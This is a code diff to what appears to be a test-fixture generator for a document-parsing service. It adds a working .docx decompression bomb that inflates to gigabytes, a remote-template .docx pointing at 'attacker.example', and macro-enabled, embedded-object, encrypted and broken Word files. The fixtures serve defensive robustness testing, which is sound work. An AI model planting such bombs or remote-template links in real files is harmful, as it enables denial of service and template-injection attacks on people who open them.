@@ -17,6 +17,7 @@ import sys
 import tempfile
 import time
 import zipfile
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -78,6 +79,66 @@ def xlsx_members(
     }
     members.update({f"xl/worksheets/sheet{i}.xml": sheet.encode() for i in rng})
     return members
+
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+DOCX_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+DOCM_CT = "application/vnd.ms-word.document.macroEnabled.main+xml"
+
+
+def docx_members(main_ct: str = DOCX_CT, document_rels: str = "") -> dict[str, bytes]:
+    """The parts of a minimal valid .docx (one paragraph), with relationships of the main part if given."""
+    ct = (
+        f'<?xml version="1.0"?><Types xmlns="{CT_NS}">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        f'<Override PartName="/word/document.xml" ContentType="{main_ct}"/></Types>'
+    )
+    rels = (
+        f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
+        f'Type="{REL_NS}/officeDocument" Target="word/document.xml"/></Relationships>'
+    )
+    body = f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>'
+    members = {"[Content_Types].xml": ct.encode(), "_rels/.rels": rels.encode(), "word/document.xml": body.encode()}
+    if document_rels:
+        members["word/_rels/document.xml.rels"] = (
+            f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}">{document_rels}</Relationships>'.encode()
+        )
+    return members
+
+
+def docx_bomb(path: Path, gigabytes: int = 1) -> None:
+    """A .docx whose word/document.xml inflates to gigabytes of zeros (one compressed 1 MB block, repeated)."""
+    block = bytes(MB)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # the same bytes: the window was flushed
+    n = 1024 * gigabytes
+    stream = first + again * (n - 1) + packer.flush()
+    crc = 0
+    for _ in range(n):
+        crc = zlib.crc32(block, crc)
+    members = [(name, data) for name, data in docx_members().items() if name != "word/document.xml"]
+    entries = [(name, _raw_deflate(data), len(data), zlib.crc32(data)) for name, data in members]
+    entries.append(("word/document.xml", stream, n * MB, crc))
+    out, central = io.BytesIO(), b""
+    for name, raw, size, check in entries:
+        encoded = name.encode()
+        offset = out.tell()
+        fields = struct.pack("<HHHHHIIIH", 20, 0, 8, 0, 0, check, len(raw), size, len(encoded))
+        out.write(b"PK\x03\x04" + fields + b"\x00\x00" + encoded + raw)
+        central += (
+            b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHHII", 0, 0, 0, 0, 0, offset) + encoded
+        )
+    start = out.tell()
+    count = len(entries)
+    out.write(central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), start, 0))
+    path.write_bytes(out.getvalue())
+
+
+def _raw_deflate(data: bytes) -> bytes:
+    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
+    return packer.compress(data) + packer.flush()
 
 
 def zip_bytes(members: dict[str, bytes]) -> bytes:
@@ -172,6 +233,17 @@ def build_catalogue(folder: Path) -> dict[str, Path]:
         "laughs.xlsx": zip_bytes(xlsx_members(prolog=billion_laughs())),
         "sheets60.xlsx": zip_bytes(xlsx_members(n_sheets=60)),
         "dimension-huge.xlsx": zip_bytes(xlsx_members(dimension="A1:XFD1048576")),
+        "encrypted.docx": ole_bytes("EncryptionInfo", "EncryptedPackage"),
+        "macro.docm": zip_bytes({**docx_members(main_ct=DOCM_CT), "word/vbaProject.bin": bytes(64)}),
+        "remote-template.docx": zip_bytes(
+            docx_members(
+                document_rels=f'<Relationship Id="rId9" Type="{REL_NS}/attachedTemplate" '
+                'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
+            )
+        ),
+        "object.docx": zip_bytes({**docx_members(), "word/embeddings/oleObject1.bin": bytes(64)}),
+        "bomb-1GB.docx": docx_bomb,
+        "broken.doc": ole_bytes("WordDocument", "1Table"),
         "bomb-300MB.xlsx": lambda p: zip_bomb(p, 300),
         "bomb-claims-2GB.xlsx": claiming_bomb,
         "junk-100MB.txt": lambda p: junk_text(p, 100),
